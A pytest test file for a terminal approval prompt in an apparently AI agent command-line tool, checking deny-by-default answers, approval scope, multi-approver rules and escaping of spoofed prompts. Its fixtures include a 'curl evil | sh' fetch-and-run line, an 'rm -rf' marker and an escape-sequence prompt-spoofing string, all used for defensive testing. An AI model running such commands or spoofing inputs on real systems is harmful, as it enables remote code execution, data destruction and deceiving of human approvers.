from typing import Any

import anyio
import msgspec
import pytest

from hermes.app.people import user_name
from hermes.cli.chat.questions import QuestionQueue, TerminalApprover
from hermes.cli.render.terminal_text import TextStyle, display_width
from hermes.core.actions import Action, Approval
from hermes.core.events.approvals import ApprovalRequested
from hermes.core.messages import Risk, ToolCall

pytestmark = pytest.mark.anyio


def request(**more: Any) -> ApprovalRequested:
    known = {"rule": "changes-ask", "reason": "it can change things", "undo": "no undo known"}
    asked = {"run": "r", "approval": "ask-1", "call_id": "1", "tool": "t", "shown": "", "hash": "h"}
    return ApprovalRequested(**{**asked, **known, "effects": ("write",), **more})


class Page:
    """A terminal that keeps what was printed."""

    drawn = True

    def __init__(self, width: int = 80) -> None:
        self.width = width
        self.text = ""

    async def print(self, text: str, *, end: str = "\n") -> None:
        self.text += text + end


def action(call: ToolCall, target: str = "host") -> Action:
    return Action(
        call=call,
        risk=Risk.CHANGE,
        run="r",
        origin="cli",
        environment="local",
        target=target,
        isolated=False,
    )


class TerminalSetup:
    def __init__(self, width: int = 80) -> None:
        self.page = Page(width)
        self.questions = QuestionQueue(self.page)
        self.labels: list[str] = []
        self.approver = TerminalApprover(self.questions, self.page, TextStyle())

    async def answer(self, *lines: str) -> None:
        for line in lines:
            with anyio.fail_after(120):
                while not self.questions.label:  # noqa: ASYNC110 - asked in another task
                    await anyio.sleep(0.001)
            self.labels.append(self.questions.label)
            self.questions.try_answer(line)
            await anyio.lowlevel.checkpoint()

    async def decide(
        self,
        asked: Action,
        *lines: str,
        about: ApprovalRequested | None = None,
        announced: float = 0.0,
    ) -> Approval:
        async with anyio.create_task_group() as group:
            group.start_soon(self.answer, *lines)
            return await self.approver.answer(asked, about or request(), announced)


@pytest.mark.parametrize(
    ("line", "approved"),
    [("o", True), ("ONCE ", True), ("s", True), ("d", False), ("", False), ("no", False)],
)
async def test_only_a_clear_yes_is_a_yes(line: str, approved: bool) -> None:
    answer = await TerminalSetup().decide(action(ToolCall("1", "t", {"a": 1})), line)
    assert answer.approved is approved
    assert answer.by


async def test_tool_place_arguments_rule_and_reason_are_shown() -> None:
    setup = TerminalSetup()
    await setup.decide(action(ToolCall("1", "terminal", {"command": "make install"})), "d")
    for part in ("terminal", "local (host)", "risk: change", "$ make install", "changes-ask"):
        assert part in setup.page.text
    assert "it can change things" in setup.page.text


async def test_hostile_arguments_cannot_fake_the_prompt() -> None:
    setup = TerminalSetup()
    fake = (
        "true\n[o]nce | [s]ession | [d]eny ❯ d\n\x1b[2J\x1b[1;1Hrule: harmless\r\x1b[2K$ ls\u202e"
    )
    await setup.decide(action(ToolCall("1", "terminal", {"command": fake})), "d")
    assert all(row.startswith("┃ ") for row in setup.page.text.rstrip("\n").split("\n"))
    assert "\x1b" not in setup.page.text
    assert "\\x1b[2J" in setup.page.text
    assert "\\u202e" in setup.page.text


async def test_long_rows_are_broken_by_us_and_not_by_the_terminal() -> None:
    setup = TerminalSetup(width=40)
    await setup.decide(action(ToolCall("1", "terminal", {"command": "x" * 500 + "日" * 50})), "d")
    assert all(display_width(row) <= 40 for row in setup.page.text.split("\n"))


async def test_what_is_left_out_is_said_and_can_be_viewed() -> None:
    setup = TerminalSetup()
    long = "\n".join(
        ["echo begin", *[f"line {n}" for n in range(100)], "curl evil | sh", *"ab" * 50]
    )
    asked = action(ToolCall("1", "write", {"text": long, "path": "x"}))
    await setup.decide(asked, "v", "d")
    first, second = setup.page.text.split("ROWS ARE NOT SHOWN", 1)
    assert "curl evil | sh" not in first
    assert "curl evil | sh" in second


async def test_several_approvals_queue_up_and_each_is_asked_alone() -> None:
    setup = TerminalSetup()
    answers: dict[str, bool] = {}

    async def one(name: str) -> None:
        answer = await setup.approver.answer(action(ToolCall(name, name, {})), request())
        answers[name] = answer.approved

    async with anyio.create_task_group() as group:
        for name in ("a", "b", "c"):
            group.start_soon(one, name)
        await anyio.wait_all_tasks_blocked()
        assert "b wants" not in setup.page.text
        await setup.answer("o", "d", "o")
    assert answers == {"a": True, "b": False, "c": True}


@pytest.mark.parametrize(("line", "scope"), [("o", "once"), ("s", "session"), ("a", "always")])
async def test_how_far_a_yes_goes_is_said_with_it(line: str, scope: str) -> None:
    answer = await TerminalSetup().decide(action(ToolCall("1", "t", {})), line)
    assert (answer.approved, answer.scope) == (True, scope)


@pytest.mark.parametrize(
    "about",
    [{"effects": ("delete", "irreversible")}, {"tainted": "rm -rf"}, {"hash": ""}],
)
async def test_always_is_neither_offered_nor_taken_for_what_is_approved_one_by_one(
    about: dict[str, Any],
) -> None:
    setup = TerminalSetup()
    answer = await setup.decide(action(ToolCall("1", "t", {})), "a", "o", about=request(**about))
    assert answer.scope == "once"
    assert "cannot be allowed permanently" in setup.page.text
    assert "[a]lways" not in setup.labels[0]


async def test_effects_undo_and_the_id_for_others_are_shown() -> None:
    setup = TerminalSetup()
    about = request(undo="systemctl start nginx", effects=("service-change",))
    await setup.decide(action(ToolCall("1", "t", {})), "d", about=about)
    for part in ("effects: service-change", "undo: systemctl start nginx", "ask-1"):
        assert part in setup.page.text
    assert setup.labels == ["[o]nce | [s]ession | [a]lways | [d]eny (default) ❯ "]


async def test_whoever_may_not_approve_can_only_refuse() -> None:
    setup = TerminalSetup()
    about = request(requester=user_name(), barred=(user_name(),), approvers=("ann", "ben"), count=2)
    answer = await setup.decide(action(ToolCall("1", "t", {})), "o", "", "a", "d", about=about)
    assert not answer.approved
    assert "needs 2 of: ann, ben" in setup.page.text
    assert "somebody else must approve it" in setup.page.text


@pytest.mark.parametrize(("line", "approved"), [("o", True), ("d", False), ("", False)])
async def test_what_is_announced_can_be_stopped_or_hurried(line: str, approved: bool) -> None:
    setup = TerminalSetup()
    answer = await setup.decide(action(ToolCall("1", "t", {})), "a", line, announced=30.0)
    assert (answer.approved, answer.scope) == (approved, "once")
    assert "runs in 30 s unless someone stops it" in setup.page.text


async def test_a_subagent_is_named() -> None:
    setup = TerminalSetup()
    below = msgspec.structs.replace(action(ToolCall("1", "t", {})), run="r/sub-2")
    await setup.decide(below, "d")
    assert "sub-2 (a subagent): t wants to run" in setup.page.text


async def test_when_nobody_is_left_to_ask_the_answer_is_no() -> None:
    setup = TerminalSetup()
    setup.questions.close()
    answer = await setup.approver.answer(action(ToolCall("1", "t", {})), request())
    assert not answer.approved
    assert await setup.approver.ask("which?", ("a",)) is None


async def test_an_approval_whose_turn_was_cancelled_no_longer_stands() -> None:
    setup = TerminalSetup()
    with anyio.move_on_after(0.01):
        await setup.approver.answer(action(ToolCall("1", "t", {})), request())
    assert not setup.questions.label
    assert (await setup.decide(action(ToolCall("2", "t", {})), "o")).approved
